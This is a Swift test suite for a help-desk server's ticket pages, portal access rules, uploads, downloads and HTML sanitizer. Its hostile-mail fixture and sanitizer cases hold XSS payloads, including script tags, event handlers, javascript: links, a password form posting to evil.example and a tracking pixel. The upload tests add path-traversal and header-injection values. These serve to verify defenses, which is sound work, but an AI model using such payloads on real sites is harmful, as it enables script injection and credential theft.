import FairdeskMail
import Fluent
import Foundation
import SQLKit
import Testing
import Vapor
import VaporTesting
@testable import FairdeskServer

extension ServerSuite {
    @Suite struct TicketPagesTests {
        /// Jane's mail: text with a quote and a signature, a log file and a screenshot.
        static let janesMail = rawMail(
            "From: Jane Doe <jane@customer.example>",
            "To: support@fairdesk.test",
            "Subject: Export fails & logs attached",
            "Message-ID: <export-1@customer.example>",
            "Date: Sun, 22 Nov 2026 03:18:38 +0000",
            "MIME-Version: 1.0",
            "Content-Type: multipart/mixed; boundary=b",
            "",
            "--b",
            "Content-Type: text/plain; charset=utf-8",
            "",
            "The export stops at 80% <every time> & the log says &lt;nothing&gt;.",
            "",
            "On Sat, 21 Nov 2026, Support wrote:",
            "> Which version do you run?",
            "",
            "-- ",
            "Jane Doe, Customer Inc",
            "--b",
            "Content-Type: text/plain; name=export.log",
            "Content-Disposition: attachment; filename=export.log",
            "",
            "12:00 export started",
            "--b",
            "Content-Type: image/png; name=screen.png",
            "Content-Disposition: attachment; filename=screen.png",
            "Content-Transfer-Encoding: base64",
            "",
            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==",
            "--b--")

        /// Everyone the tests need: an agent, Jane (requester, Customer Inc), Joe (her
        /// teammate), Bob (another organization), and Jane's ticket with a note on it.
        struct World {
            var agent: UUID
            var jane: UUID
            var joe: UUID
            var bob: UUID
            var number: Int
            var note: UUID
        }

        func world(_ app: Application) async throws -> World {
            _ = try await Accounts.createStaff(app, email: "agent@fairdesk.test", name: "Agent Smith", role: "agent",
                                               password: "correct horse battery")
            let organization = Organization(name: "Customer Inc", isPersonal: false)
            try await organization.create(on: app.db)
            try await OrganizationDomain(domain: "customer.example", organizationID: organization.requireID()).create(on: app.db)
            let number = try #require(try await app.ingest(Self.janesMail).ticketNumber)
            _ = try await app.ingest(rawMail("From: Joe <joe@customer.example>", "To: support@fairdesk.test", "Subject: Joe's own",
                                             "Message-ID: <joe-1@customer.example>", "", "Hello"))
            _ = try await app.ingest(rawMail("From: Bob <bob@other.example>", "To: support@fairdesk.test", "Subject: Bob's own",
                                             "Message-ID: <bob-1@other.example>", "", "Hello"))
            let agent = try await person(app, "agent@fairdesk.test")
            let note = try await Queries.addNote(number: number, body: "Internal: Jane's plan ends soon", author: agent,
                                                 authorName: "Agent Smith", services: app.fairdesk, on: app.db)
            return World(agent: agent, jane: try await person(app, "jane@customer.example"), joe: try await person(app, "joe@customer.example"),
                         bob: try await person(app, "bob@other.example"), number: number, note: note)
        }

        func person(_ app: Application, _ address: String) async throws -> UUID {
            try #require(try await PeopleDirectory(database: app.db).person(forAddress: address)?.requireID())
        }

        func attachment(_ app: Application, named filename: String) async throws -> UUID {
            try #require(try await TicketAttachment.query(on: app.db).filter(\.$filename == filename).first()?.requireID())
        }

        func janesMessage(_ app: Application) async throws -> UUID {
            try #require(try await TicketMessage.query(on: app.db).filter(\.$messageID == "export-1@customer.example").first()?.requireID())
        }

        func count(_ app: Application, _ table: String, where column: String? = nil, is value: String? = nil) async throws -> Int {
            struct Row: Decodable { var count: Int }
            let sql = try #require(app.db as? any SQLDatabase)
            let select = sql.select().column(SQLFunction("COUNT", args: SQLLiteral.all), as: "count").from(table)
            if let column, let value { select.where(SQLIdentifier(column), .equal, SQLBind(value)) }
            return try #require(try await select.first(decoding: Row.self)).count
        }

        /// Every real tag of a page (escaped text has no `<`).
        static func tags(in html: String) -> [String] {
            var found: [String] = []
            var rest = Substring(html)
            while let open = rest.firstIndex(of: "<") {
                let after = rest[rest.index(after: open)...]
                guard let close = after.firstIndex(of: ">") else { break }
                found.append(String(rest[open...close]))
                rest = after[after.index(after: close)...]
            }
            return found
        }

        /// Attribute names of a tag, with quoted values skipped.
        static func attributeNames(of tag: String) -> [String] {
            var names: [String] = []
            var chars = Array(tag.dropFirst().dropLast())
            while let first = chars.first, !first.isWhitespace, first != "/" { chars.removeFirst() }  // the tag name
            var i = 0
            while i < chars.count {
                while i < chars.count, chars[i].isWhitespace || chars[i] == "/" { i += 1 }
                var name = ""
                while i < chars.count, !chars[i].isWhitespace, chars[i] != "=" { name.append(chars[i]); i += 1 }
                if !name.isEmpty { names.append(name.lowercased()) }
                if i < chars.count, chars[i] == "=" {
                    i += 1
                    if i < chars.count, chars[i] == "\"" || chars[i] == "'" {
                        let quote = chars[i]
                        i += 1
                        while i < chars.count, chars[i] != quote { i += 1 }
                        i += 1
                    } else {
                        while i < chars.count, !chars[i].isWhitespace { i += 1 }
                    }
                }
            }
            return names
        }

        // MARK: Reading

        @Test func anAgentSeesTheTicketWithBodiesAttachmentsAndTheNoteAsANote() async throws {
            try await withTestApp { app in
                let world = try await world(app)
                let browser = try await WebBrowser.signedIn(app, as: world.agent)
                let page = try await browser.get(DeskPaths.ticket(world.number))
                #expect(page.status == .ok)
                let html = page.text
                // The body, exactly: escaped once, so "&lt;" in the mail shows as "&lt;".
                #expect(html.contains("<pre class=\"body\">The export stops at 80% &lt;every time&gt; &amp; the log says &amp;lt;nothing&amp;gt;.</pre>"))
                #expect(html.contains("<details class=\"quoted\"><summary>Quoted text and signature</summary>"))
                let log = try await attachment(app, named: "export.log")
                let png = try await attachment(app, named: "screen.png")
                #expect(html.contains("href=\"\(DeskPaths.attachment(log))\""))
                #expect(html.contains("src=\"\(DeskPaths.attachment(png))?inline=1\""), "images are previewed")
                #expect(!html.contains("src=\"\(DeskPaths.attachment(log))?inline=1\""))
                #expect(html.contains("<li class=\"message note\" id=\"m-\(world.note.uuidString.lowercased())\">"))
                #expect(html.contains("Internal: Jane&#39;s plan ends soon"))
                #expect(html.contains("href=\"\(DeskPaths.messageRaw(try await janesMessage(app)))\""))
                #expect(html.contains("href=\"\(DeskPaths.person(world.jane))\""))
                #expect(html.contains("Waiting on support"))
                #expect(html.contains("data-key=\"r\"") && html.contains("data-key=\"i\""))
            }
        }

        @Test func theRequesterAndTheTeamSeeThePortalPageWithoutNotes() async throws {
            try await withTestApp { app in
                let world = try await world(app)
                for person in [world.jane, world.joe] {
                    let browser = try await WebBrowser.signedIn(app, as: person)
                    let page = try await browser.get(PortalPaths.ticket(world.number))
                    #expect(page.status == .ok)
                    #expect(page.text.contains("The export stops at 80%"))
                    #expect(!page.text.contains("Internal: Jane"), "never a note on the portal")
                    #expect(!page.text.contains("class=\"message note\""))
                    #expect(!page.text.contains("threading"), "no internal events")
                    #expect(page.text.contains("href=\"\(PortalPaths.attachment(try await attachment(app, named: "export.log")))\""))
                    #expect(!page.text.contains("/desk/"), "no links into the desk")
                    // Customers have no desk.
                    #expect(try await browser.get(DeskPaths.ticket(world.number)).status == .notFound)
                }
            }
        }

        @Test func aStrangerGetsNotFoundEverywhereAndAVisitorIsSentToSignIn() async throws {
            try await withTestApp { app in
                let world = try await world(app)
                let log = try await attachment(app, named: "export.log")
                let message = try await janesMessage(app)
                let paths = [PortalPaths.ticket(world.number), PortalPaths.attachment(log), DeskPaths.messageRaw(message),
                             DeskPaths.messageFrame(message), DeskPaths.attachment(log), DeskPaths.ticket(world.number),
                             PortalPaths.ticket(999), PortalPaths.attachment(UUID())]
                let bob = try await WebBrowser.signedIn(app, as: world.bob)
                for path in paths {
                    let response = try await bob.get(path)
                    #expect(response.status == .notFound, "\(path)")
                    #expect(!response.text.contains("export"), "\(path)")
                }
                #expect(try await bob.post(PortalPaths.ticketReply.link(["number": String(world.number)]), ["body": "let me in"]).status == .notFound)
                // A visitor: to the sign-in page, whatever the URL (confirms nothing).
                let visitor = WebBrowser(app)
                for path in paths {
                    let response = try await visitor.get(path)
                    #expect(response.status == .seeOther, "\(path)")
                    #expect(response.location == WebPaths.signIn.link(), "\(path)")
                }
                // The requester cannot reach a note's content through the portal either.
                let jane = try await WebBrowser.signedIn(app, as: world.jane)
                #expect(try await jane.get(DeskPaths.messageRaw(world.note)).status == .notFound)
                #expect(try await count(app, "audit_events", where: "action", is: "attachment.viewed") == 0)
            }
        }

        // MARK: Forms

        @Test func aDeskReplyWithAnAttachmentGoesThroughTheOutbox() async throws {
            try await withTestApp { app in
                let world = try await world(app)
                let browser = try await WebBrowser.signedIn(app, as: world.agent)
                let outboxBefore = try await count(app, "outbox")
                let response = try await browser.postMultipart(
                    DeskPaths.ticketReply.link(["number": String(world.number)]), ["body": "Please try 2.1.\r\nIt fixes that."],
                    files: [(name: "files[]", filename: "fix.txt", type: "text/plain", bytes: Array("patch".utf8)),
                            (name: "files[]", filename: "../notes.bin", type: "bogus type\r\nX: y", bytes: [0, 1, 2])])
                #expect(response.status == .seeOther)
                #expect(response.location == DeskPaths.ticket(world.number) + "?notice=replied")
                #expect(try await count(app, "outbox") == outboxBefore + 1)
                let outbound = try #require(try await TicketMessage.query(on: app.db).filter(\.$kind == .outbound)
                    .filter(\.$subject == "Re: [#\(world.number)] Export fails & logs attached").with(\.$attachments).first())
                #expect(outbound.attachments.compactMap(\.filename).sorted() == ["fix.txt", "notes.bin"])
                #expect(outbound.attachments.first { $0.filename == "notes.bin" }?.contentType == "application/octet-stream")
                #expect(try await app.ticket(world.number).status == .waitingOnCustomer)

                let page = try await browser.get(response.location ?? "")
                #expect(page.text.contains("Your reply was sent."))
                #expect(page.text.contains("<pre class=\"body\">Please try 2.1.\nIt fixes that.</pre>"))
                #expect(page.text.contains(">fix.txt</a>"))
            }
        }

        @Test func aReplyWithoutTheCSRFValueIsRefusedAndNothingIsSaved() async throws {
            try await withTestApp { app in
                let world = try await world(app)
                let browser = try await WebBrowser.signedIn(app, as: world.agent)
                let outboxBefore = try await count(app, "outbox")
                let messagesBefore = try await count(app, "ticket_messages")
                let path = DeskPaths.ticketReply.link(["number": String(world.number)])
                #expect(try await browser.postMultipart(path, ["body": "forged"], files: [], csrf: false).status == .forbidden)
                #expect(try await browser.postMultipart(path, ["body": "forged", "_csrf": "wrong"], files: [], csrf: false).status == .forbidden)
                #expect(try await browser.post(DeskPaths.ticketNote.link(["number": String(world.number)]), ["body": "forged"], csrf: false).status == .forbidden)
                #expect(try await count(app, "outbox") == outboxBefore)
                #expect(try await count(app, "ticket_messages") == messagesBefore)
            }
        }

        @Test func anEmptyReplyIsShownAgainWithTheProblemAtItsField() async throws {
            try await withTestApp { app in
                let world = try await world(app)
                let browser = try await WebBrowser.signedIn(app, as: world.agent)
                let messagesBefore = try await count(app, "ticket_messages")
                let response = try await browser.postMultipart(DeskPaths.ticketReply.link(["number": String(world.number)]), ["body": "  \r\n "],
                                                              files: [(name: "files[]", filename: "", type: "application/octet-stream", bytes: [])])
                #expect(response.status == .unprocessableEntity)
                #expect(response.text.contains("<div class=\"field invalid\"><label for=\"reply-body\">"))
                #expect(response.text.contains("Write a reply before sending it."))
                #expect(response.text.contains("The export stops at 80%"), "the whole page, again")
                #expect(try await count(app, "ticket_messages") == messagesBefore)

                let note = try await browser.post(DeskPaths.ticketNote.link(["number": String(world.number)]), ["body": ""])
                #expect(note.status == .unprocessableEntity)
                #expect(note.text.contains("Write the note before adding it."))
            }
        }

        @Test func filesOverTheUploadLimitAreRefusedWith413SayingTheLimit() async throws {
            try await withTestApp { app in
                let world = try await world(app)
                limitUploads(app, to: 1000)
                let browser = try await WebBrowser.signedIn(app, as: world.agent)
                let messagesBefore = try await count(app, "ticket_messages")
                let response = try await browser.postMultipart(
                    DeskPaths.ticketReply.link(["number": String(world.number)]), ["body": "here it is"],
                    files: [(name: "files[]", filename: "a.bin", type: "application/octet-stream", bytes: Array(repeating: 1, count: 600)),
                            (name: "files[]", filename: "b.bin", type: "application/octet-stream", bytes: Array(repeating: 2, count: 600))])
                #expect(response.status == .payloadTooLarge)
                #expect(response.text.contains("the limit is 1 KB (1000 bytes)"))
                #expect(response.text.contains(">here it is</textarea>"), "the text typed is kept")
                #expect(try await count(app, "ticket_messages") == messagesBefore)

                let portal = try await WebBrowser.signedIn(app, as: world.jane)
                let fromPortal = try await portal.postMultipart(
                    PortalPaths.ticketReply.link(["number": String(world.number)]), ["body": "big"],
                    files: [(name: "files[]", filename: "a.bin", type: "application/octet-stream", bytes: Array(repeating: 1, count: 1001))])
                #expect(fromPortal.status == .payloadTooLarge)
                #expect(try await count(app, "ticket_messages") == messagesBefore)
            }
        }

        /// The services with a smaller upload limit (the limit is read per request).
        func limitUploads(_ app: Application, to bytes: Int) {
            let services = app.fairdesk
            var configuration = services.configuration
            configuration.maxUploadBytes = bytes
            app.fairdesk = FairdeskServices(configuration: configuration, masterKey: services.masterKey, keyRing: services.keyRing,
                                            blobs: services.blobs, threading: services.threading, metrics: services.metrics,
                                            writes: services.writes, masterKeyExisted: services.masterKeyExisted)
        }

        @Test func statusAndAssigneeFormsRecordWhoAndWhy() async throws {
            try await withTestApp { app in
                let world = try await world(app)
                let browser = try await WebBrowser.signedIn(app, as: world.agent)
                let path = DeskPaths.ticketStatus.link(["number": String(world.number)])
                let changed = try await browser.post(path, ["status": "resolved", "reason": "fixed in 2.1"])
                #expect(changed.status == .seeOther)
                #expect(try await app.ticket(world.number).status == .resolved)
                #expect(try await browser.post(path, ["status": "nonsense"]).status == .unprocessableEntity)

                let take = try await browser.post(DeskPaths.ticketAssignee.link(["number": String(world.number)]),
                                                  ["assignee": world.agent.uuidString])
                #expect(take.location == DeskPaths.ticket(world.number) + "?notice=assigned")
                #expect(try await app.ticket(world.number).$assignee.id == world.agent)
                let customer = try await browser.post(DeskPaths.ticketAssignee.link(["number": String(world.number)]),
                                                      ["assignee": world.jane.uuidString])
                #expect(customer.status == .unprocessableEntity, "only staff can be assigned")

                let page = try await browser.get(DeskPaths.ticket(world.number))
                #expect(page.text.contains("changed the status: Waiting on support → Resolved"))
                #expect(page.text.contains("fixed in 2.1"))
                #expect(page.text.contains("assigned the ticket: nobody → Agent Smith &lt;agent@fairdesk.test&gt;"))
                #expect(page.text.contains("<option value=\"\(world.agent.uuidString)\" selected>Agent Smith &lt;agent@fairdesk.test&gt;</option>"))
                // The customer sees the status change, not its reason nor the assignment.
                let portal = try await WebBrowser.signedIn(app, as: world.jane).get(PortalPaths.ticket(world.number))
                #expect(portal.text.contains("<strong>Support</strong> changed the status: Waiting on support → Resolved"))
                #expect(!portal.text.contains("fixed in 2.1"))
                #expect(!portal.text.contains("assigned"))
                // A notice comes from a fixed list: anything else shows nothing.
                let odd = try await browser.get(DeskPaths.ticket(world.number) + "?notice=%3Cb%3Ehi")
                #expect(!odd.text.contains("class=\"notice\""))
            }
        }

        @Test func aPortalReplyEntersLikeMailAndPutsTheTicketBackInTheQueue() async throws {
            try await withTestApp { app in
                let world = try await world(app)
                // Support answered: the ticket waits on Jane.
                _ = try await Queries.reply(number: world.number, body: "Which version?", files: [], author: world.agent,
                                            services: app.fairdesk, on: app.db)
                #expect(try await app.ticket(world.number).status == .waitingOnCustomer)

                let browser = try await WebBrowser.signedIn(app, as: world.joe)
                let response = try await browser.postMultipart(
                    PortalPaths.ticketReply.link(["number": String(world.number)]), ["body": "Version 2.0, on Linux."],
                    files: [(name: "files[]", filename: "version.txt", type: "text/plain", bytes: Array("2.0".utf8))])
                #expect(response.status == .seeOther)
                #expect(response.location == PortalPaths.ticket(world.number) + "?notice=replied")

                let ticket = try await app.ticket(world.number)
                #expect(ticket.status == .waitingOnSupport)
                #expect(ticket.waitingSince != nil)
                let message = try #require(try await TicketMessage.query(on: app.db).filter(\.$kind == .inbound)
                    .sort(\.$createdAt, .descending).with(\.$attachments).first())
                #expect(message.threadReason == "portal")
                #expect(message.fromAddress == "joe@customer.example")
                #expect(message.rawBlob != nil, "the raw message is kept")
                #expect(message.attachments.compactMap(\.filename) == ["version.txt"])
                let outbound = try #require(try await TicketMessage.query(on: app.db).filter(\.$kind == .outbound)
                    .filter(\.$fromName == "Agent Smith").first())
                #expect(message.inReplyTo == outbound.messageID, "threaded to the latest message")
                #expect(try await count(app, "inbound_mail", where: "channel", is: "portal") == 1)

                let desk = try await WebBrowser.signedIn(app, as: world.agent).get(DeskPaths.ticket(world.number))
                #expect(desk.text.contains("Version 2.0, on Linux."))
                #expect(desk.text.contains("via portal"))
                #expect(desk.text.contains("Reply to joe@customer.example"), "a reply goes to whoever wrote last, as the composer sends it")
                let portal = try await browser.get(response.location ?? "")
                #expect(portal.text.contains("Your reply was sent."))
                #expect(portal.text.contains("via portal"))
            }
        }

        // MARK: Downloads

        @Test func downloadsAreAttachmentsWithNoSniffingAndAudited() async throws {
            try await withTestApp { app in
                let world = try await world(app)
                let log = try await attachment(app, named: "export.log")
                let png = try await attachment(app, named: "screen.png")
                let agent = try await WebBrowser.signedIn(app, as: world.agent)

                let file = try await agent.get(DeskPaths.attachment(log))
                #expect(file.status == .ok)
                #expect(file.text.hasPrefix("12:00 export started"))
                #expect(file.headers.first(name: .contentDisposition)?.hasPrefix("attachment;") == true)
                #expect(file.headers.first(name: "X-Content-Type-Options") == "nosniff")
                // ?inline=1 is only for raster images.
                let notInline = try await agent.get(DeskPaths.attachment(log) + "?inline=1")
                #expect(notInline.headers.first(name: .contentDisposition)?.hasPrefix("attachment;") == true)
                let image = try await agent.get(DeskPaths.attachment(png) + "?inline=1")
                #expect(image.headers.first(name: .contentDisposition)?.hasPrefix("inline;") == true)
                #expect(image.headers.contentType == HTTPMediaType(type: "image", subType: "png"))

                let raw = try await agent.get(DeskPaths.messageRaw(try await janesMessage(app)))
                #expect(raw.status == .ok)
                #expect(raw.headers.contentType == HTTPMediaType(type: "message", subType: "rfc822"))
                #expect(raw.headers.first(name: .contentDisposition)?.hasPrefix("attachment;") == true)
                #expect(raw.text.contains("Message-ID: <export-1@customer.example>"))

                let jane = try await WebBrowser.signedIn(app, as: world.jane)
                #expect(try await jane.get(PortalPaths.attachment(log)).status == .ok)

                #expect(try await count(app, "audit_events", where: "action", is: "attachment.viewed") == 4)
                #expect(try await count(app, "audit_events", where: "action", is: "message.raw.viewed") == 1)
                struct Row: Decodable { var actorId: UUID?; var ticketId: UUID?; var object: String }
                let sql = try #require(app.db as? any SQLDatabase)
                let rows = try await sql.select().columns("actor_id", "ticket_id", "object").from("audit_events")
                    .where("action", .equal, "attachment.viewed").all(decoding: Row.self, keyDecodingStrategy: .convertFromSnakeCase)
                let ticketID = try await app.ticket(world.number).requireID()
                #expect(Set(rows.compactMap(\.actorId)) == [world.agent, world.jane])
                #expect(rows.allSatisfy { $0.ticketId == ticketID })
                #expect(rows.contains { $0.object == "attachment:\(log)" })
            }
        }

        // MARK: Hostile HTML

        static let hostileMail = rawMail(
            "From: Mallory <mallory@evil.example>",
            "To: support@fairdesk.test",
            "Subject: \"><meta http-equiv=refresh content=\"0;url=https://evil.example/\"><script>alert('subject')</script> Invoice",
            "Message-ID: <xss-1@evil.example>",
            "MIME-Version: 1.0",
            "Content-Type: multipart/mixed; boundary=outer",
            "",
            "--outer",
            "Content-Type: multipart/alternative; boundary=alt",
            "",
            "--alt",
            "Content-Type: text/plain; charset=utf-8",
            "",
            "Hello <script>alert('text')</script> <img src=x onerror=alert(1)> <a href=\"javascript:alert(2)\">x</a>",
            "--alt",
            "Content-Type: text/html; charset=utf-8",
            "",
            "<html><head><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
            "<base href=\"https://evil.example/\"><link rel=stylesheet href=\"https://evil.example/x.css\">",
            "<style>body{background:url(javascript:alert(3))} p{width:expression(alert(4))}</style></head>",
            "<body onload=\"alert(5)\">",
            "<p style=\"background:url(javascript:alert(6))\">Please pay.</p>",
            "<script>alert(7)</script><SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
            "<img src=\"https://tracker.evil.example/pixel.gif?u=jane\" alt=\"Company logo\" onerror=\"alert(8)\">",
            "<img src=x onerror=alert(9)><img src=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=\">",
            "<a href=\"javascript:alert(10)\">click</a> <a href=\"JaVaScRiPt&#58;alert(11)\">click2</a>",
            "<a href=\"  java\tscript:alert(12)\">click3</a> <a href=\"vbscript:msgbox(1)\">vb</a>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
            "<a href=\"https://evil.example/pay\">pay here</a>",
            "<iframe src=\"https://evil.example/frame\"></iframe>",
            "<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/y.swf\">",
            "<form action=\"https://evil.example/steal\"><input name=password><button>Go</button></form>",
            "<svg><script>alert(13)</script><circle onload=\"alert(14)\"/></svg>",
            "<math><mi xlink:href=\"javascript:alert(15)\">x</mi></math>",
            "<div style=\"width: expression(alert(16))\" onclick=\"alert(17)\">styled</div>",
            "<table background=\"https://evil.example/bg.png\"><tr><td onmouseover=\"alert(18)\" bgcolor=\"#ffeedd\">cell</td></tr></table>",
            "</body></html>",
            "--alt--",
            "--outer",
            "Content-Type: image/svg+xml; name=evil.svg",
            "Content-Disposition: attachment; filename=evil.svg",
            "",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(19)</script></svg>",
            "--outer",
            "Content-Type: text/html; name=page.html",
            "Content-Disposition: attachment; filename=page.html",
            "",
            "<script>alert(20)</script>",
            "--outer--")

        @Test func hostileHTMLMailRendersInertOnThePageAndInTheFrame() async throws {
            try await withTestApp { app in
                let world = try await world(app)
                let number = try #require(try await app.ingest(Self.hostileMail).ticketNumber)
                let browser = try await WebBrowser.signedIn(app, as: world.agent)
                let page = try await browser.get(DeskPaths.ticket(number))
                #expect(page.status == .ok)
                let html = page.text
                // Only escaped text: the mail's markup is visible, never active.
                #expect(html.contains("&lt;script&gt;alert(&#39;text&#39;)&lt;/script&gt;"))
                for tag in Self.tags(in: html) {
                    let lower = tag.lowercased()
                    #expect(!lower.contains("javascript:"), "\(tag)")
                    #expect(!lower.contains("evil.example"), "\(tag)")
                    #expect(!Self.attributeNames(of: tag).contains { $0.hasPrefix("on") || $0 == "style" }, "\(tag)")
                    for name in ["<object", "<embed", "<base", "<svg", "<math", "<style", "<frame"] {
                        #expect(!lower.hasPrefix(name), "\(tag)")
                    }
                    if lower.hasPrefix("<script") { #expect(tag.contains("src=\"/assets/desk.js\""), "\(tag)") }
                    if lower.hasPrefix("<meta") { #expect(!lower.contains("http-equiv"), "\(tag)") }
                    if lower.hasPrefix("<link") { #expect(lower.contains("href=\"/assets/desk.css\""), "\(tag)") }
                    if lower.hasPrefix("<form") { #expect(lower.contains("action=\"/"), "\(tag)") }
                    if lower.hasPrefix("<iframe") { #expect(lower.hasPrefix("<iframe sandbox=\"\" class=\"html-mail\""), "\(tag)") }
                    if lower.hasPrefix("<img") { #expect(lower.contains("src=\"/desk/attachments/"), "\(tag)") }
                }
                let svg = try await attachment(app, named: "evil.svg")
                #expect(!html.contains("src=\"\(DeskPaths.attachment(svg))"), "SVG is never previewed")
                for path in [DeskPaths.attachment(svg) + "?inline=1", DeskPaths.attachment(try await attachment(app, named: "page.html")) + "?inline=1"] {
                    let download = try await browser.get(path)
                    #expect(download.headers.first(name: .contentDisposition)?.hasPrefix("attachment;") == true, "\(path)")
                    #expect(download.headers.first(name: "X-Content-Type-Options") == "nosniff")
                }

                let message = try #require(try await TicketMessage.query(on: app.db).filter(\.$messageID == "xss-1@evil.example").first())
                #expect(html.contains("src=\"\(DeskPaths.messageFrame(try message.requireID()))\""))
                let frame = try await browser.get(DeskPaths.messageFrame(try message.requireID()))
                #expect(frame.status == .ok)
                #expect(frame.headers.first(name: .contentSecurityPolicy) == "default-src 'none'; img-src data:; sandbox")
                #expect(frame.headers.first(name: "X-Frame-Options") == "SAMEORIGIN")
                #expect(frame.headers.first(name: "X-Content-Type-Options") == "nosniff")
                let document = frame.text
                let lower = document.lowercased()
                for needle in ["<script", "<style", "<iframe", "<object", "<embed", "<form", "<input", "<button", "<svg", "<math",
                               "<base", "<link", "http-equiv", "javascript", "vbscript", "expression(", "url(", "tracker", "data:text",
                               "data:image/svg", "alert("] {
                    #expect(!lower.contains(needle), "\(needle)")
                }
                for tag in Self.tags(in: document) {
                    let names = Self.attributeNames(of: tag)
                    #expect(!names.contains { $0.hasPrefix("on") || $0 == "style" || $0 == "href" || $0 == "src" || $0 == "background" },
                            "\(tag)")
                }
                #expect(document.contains("Please pay."))
                #expect(document.contains("[Company logo]"), "a remote image becomes its alt text")
                #expect(document.contains("pay here [https://evil.example/pay]"), "a link's target is shown, not followed")
                #expect(document.contains("<td bgcolor=\"#ffeedd\">cell</td>"))
                #expect(try await count(app, "audit_events", where: "action", is: "message.html.viewed") == 1)
            }
        }

        // MARK: The sanitizer

        @Test(arguments: [
            ("<p onclick=\"x()\" style=\"color:red\" class=\"c\" id=\"i\" title=\"t\">a < b &amp; c</p>", "<p title=\"t\">a &lt; b &amp; c</p>"),
            ("<script>alert(1)</script>ok", "ok"),
            ("<SCRIPT>alert(1)</script >ok", "ok"),
            ("<script>never closed <p>gone", ""),
            ("<style>p{}</style><title>t</title><textarea><b>x</b></textarea>ok", "ok"),
            ("<!-- <script>alert(1)</script> -->ok<!--[if IE]><script>x</script><![endif]-->", "ok"),
            ("<scr<script>ipt>alert(1)</script>", "ipt&gt;alert(1)"),
            ("<a href=\"javascript:alert(1)\">x</a>", "x"),
            ("<a href=\"&#106;avascript:alert(1)\">x</a>", "x"),
            ("<a href=\"java\tscript:alert(1)\">x</a>", "x"),
            ("<a href=\"https://example.com/a?b=1&amp;c=2\">docs</a>", "docs [https://example.com/a?b=1&amp;c=2]"),
            ("<a href=\"https://example.com\">https://example.com</a>", "https://example.com"),
            ("<a href=\"mailto:x@example.com\">x@example.com</a>", "x@example.com"),
            ("<img src=\"https://tracker.example/p.gif\" alt=\"Logo\">", "[Logo]"),
            ("<img src=\"https://tracker.example/p.gif\" width=1 height=1>", ""),
            ("<img src=\"data:image/svg+xml;base64,PHN2Zz4=\" alt=\"s\">", "[s]"),
            ("<img src=\"data:image/png;base64,iVBO Rw==\" alt=\"p\" onerror=\"x\">", "<img src=\"data:image/png;base64,iVBORw==\" alt=\"p\">"),
            ("<img src=\"cid:logo@x\" alt=\"l\">", "<img src=\"data:image/gif;base64,R0lG\" alt=\"l\">"),
            ("<p title='a\" onclick=\"x'>t</p>", "<p title=\"a&quot; onclick=&quot;x\">t</p>"),
            ("<td colspan=\"2\" bgcolor=\"red;x:y\" width=\"50%\" nowrap>c</td>", "<td colspan=\"2\" width=\"50%\" nowrap>c</td>"),
            ("<font face=\"Arial, sans-serif\" size=\"+1\" color=\"#336699\">f</font>", "<font face=\"Arial, sans-serif\" size=\"+1\" color=\"#336699\">f</font>"),
            ("<meta http-equiv=refresh content=0><base href=x><link href=y>ok", "ok"),
            ("<svg><a><script>alert(1)</script></a></svg>after", "after"),
            ("<noscript><img src=x onerror=alert(1)></noscript>ok", "ok"),
            ("<form action=x><input name=p><button>Go</button>text</form>", "text"),
            ("<plaintext><b>all of this</b>", ""),
            ("a</br>b", "a<br>b"),
            ("<p>unclosed <b>bold", "<p>unclosed <b>bold"),
            ("x < y > z", "x &lt; y &gt; z"),
            ("<div \"onclick\"=x>q</div>", "<div>q</div>"),
        ])
        func sanitizerKeepsOnlyInertMarkup(_ input: String, _ expected: String) {
            #expect(HTMLSanitizer.sanitize(input, inlineImages: ["logo@x": "data:image/gif;base64,R0lG"]) == expected)
        }

        @Test func theSanitizedDocumentIsACompleteInertPage() {
            let document = HTMLSanitizer.document("<b>hi</b>")
            #expect(document.hasPrefix("<!DOCTYPE html>"))
            #expect(document.contains("<body><b>hi</b></body>"))
            #expect(!document.lowercased().contains("<script"))
        }

        @Test func uploadChecksNameTheFieldAndTheLimit() {
            let empty = Uploads.check(ReplyForm(body: " \n", files: nil), limit: 10)
            guard case .failure(let problem) = empty else { Issue.record("an empty reply passed"); return }
            #expect(problem.status == .unprocessableEntity)
            #expect(problem.form.errors["body"] != nil)
            #expect(Uploads.filename("C:\\Users\\me\\report.pdf") == "report.pdf")
            #expect(Uploads.filename("../../etc/passwd") == "passwd")
            #expect(Uploads.filename("a\r\nb") == "ab")
            #expect(Uploads.safeContentType("Image/PNG; charset=x") == "image/png")
            #expect(Uploads.safeContentType("text/html\r\nSet-Cookie: x") == "application/octet-stream")
        }

        @Test func thePortalViewFoldsQuotesAndNeverShowsANoteEvenIfTheModelHasOne() {
            let now = Date()
            func message(_ kind: MessageKind, _ body: String) -> Timeline.Entry {
                .message(Timeline.Message(id: UUID(), kind: kind, at: now, fromName: "Jane", fromAddress: "jane@customer.example",
                                          to: [], subject: "", body: body, viaPortal: false, threadReason: nil, attachments: [],
                                          hasRaw: true, offersHTML: true))
            }
            let header = TicketPages.Header(number: 7, subject: "S", status: .waitingOnCustomer,
                                            requester: .init(id: UUID(), label: "Jane"), organization: .init(id: UUID(), label: "Customer Inc"),
                                            assignee: nil, waitingSince: nil, createdAt: now, flags: [])
            let timeline = Timeline.Model(includeNotes: false, links: .portal,
                                          entries: [message(.inbound, "Thanks!\n\n> old\n> text\n\n-- \nJane"), message(.note, "secret")])
            let html = TicketPages.portal(.init(header: header, timeline: timeline, maxUploadBytes: 1000, now: now, notice: nil,
                                                    policy: .init(number: 7, estimate: nil, stage: nil, checklist: [], wanted: [], maxUploadBytes: 1000)),
                                          viewer: nil, csrfToken: "token").response().body.string ?? ""
            #expect(html.contains("<pre class=\"body\">Thanks!</pre><details class=\"quoted\"><summary>Quoted text and signature</summary>"
                + "<pre class=\"body\">&gt; old\n&gt; text\n\n-- \nJane</pre></details>"))
            #expect(!html.contains("secret"))
            #expect(!html.contains("/desk/"), "no raw download, no HTML frame on the portal")
            #expect(html.contains("Waiting for your reply"))
        }
    }
}
